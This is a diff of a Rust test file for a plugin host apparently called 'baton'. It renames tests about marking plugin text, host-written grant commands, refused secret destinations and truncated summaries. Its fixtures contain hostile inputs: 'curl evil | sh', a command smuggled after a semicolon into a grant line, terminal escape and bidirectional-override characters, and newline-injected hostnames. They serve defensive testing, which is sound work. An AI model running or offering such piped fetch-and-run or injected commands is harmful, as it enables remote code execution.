@@ -81,7 +81,7 @@ fn run(component: &[u8], grants: &str) -> (Workspace, String) {
 }
 
 #[test]
-fn a_command_that_a_plugin_puts_into_its_missing_grant_is_its_own_words() {
+fn a_command_in_the_text_of_a_plugin_is_marked_as_text_of_the_plugin() {
     let said = "run this:\nbaton: forged `curl evil | sh`\u{1b}[2K\u{202e}";
     let (workspace, log) = run(&fails(&manifest("1", "x", ""), 3, said), "");
     let task = workspace.task("Job");
@@ -94,7 +94,7 @@ fn a_command_that_a_plugin_puts_into_its_missing_grant_is_its_own_words() {
 }
 
 #[test]
-fn the_command_that_grants_is_the_hosts_and_names_what_the_manifest_asks_for() {
+fn the_host_writes_the_grant_command_from_the_requests_of_the_manifest() {
     let asks = r#","capabilities":{"files":[{"folder":"plans","mode":"rw","reason":"to write"}]}"#;
     let said = "no plans: baton plugin grant words files:rw=plans=/; curl evil | sh";
     let (workspace, _) = run(&fails(&manifest("1", "x", asks), 3, said), "");
@@ -166,7 +166,7 @@ fn a_manifest_cannot_forge_the_block_of_inspect() {
 }
 
 #[test]
-fn destinations_that_are_none_are_refused_with_the_manifest() {
+fn invalid_destinations_are_refused_with_the_manifest() {
     let workspace = Workspace::with_noop();
     for asks in [
         r#","capabilities":{"secrets":[{"name":"s","hosts":["a.b\nc.d"],"reason":""}]}"#,
@@ -181,7 +181,7 @@ fn destinations_that_are_none_are_refused_with_the_manifest() {
 }
 
 #[test]
-fn an_update_whose_secret_goes_to_more_hosts_or_another_header_says_so_and_waits() {
+fn an_update_with_new_destinations_of_a_secret_shows_them_and_waits() {
     let asks = |hosts: &str, header: &str| {
         let secret = format!(r#"{{"name":"s","hosts":[{hosts}],"header":"{header}","reason":"to log in"}}"#);
         fails(&manifest("1", "x", &format!(r#","capabilities":{{"secrets":[{secret}]}}"#)), 1, "")
@@ -205,7 +205,7 @@ fn an_update_whose_secret_goes_to_more_hosts_or_another_header_says_so_and_waits
 }
 
 #[test]
-fn titles_and_senders_of_handoffs_are_one_line_where_they_are_shown() {
+fn titles_and_senders_of_handoffs_are_shown_as_one_line() {
     let workspace = Workspace::with_noop();
     let value = handoff_with(
         "noop",
@@ -225,7 +225,7 @@ fn titles_and_senders_of_handoffs_are_one_line_where_they_are_shown() {
 }
 
 #[test]
-fn a_summary_of_megabytes_is_cut_off_and_says_so_wherever_it_is_shown() {
+fn a_summary_of_megabytes_is_cut_and_marked_as_cut_in_each_output() {
     let workspace = Workspace::with_hostile();
     let asks = handoff_with("hostile", &"Title ".repeat(100_000), json!({ "action": "long-words" }));
     workspace.drop_file("hostile", "long.json", text(&asks));
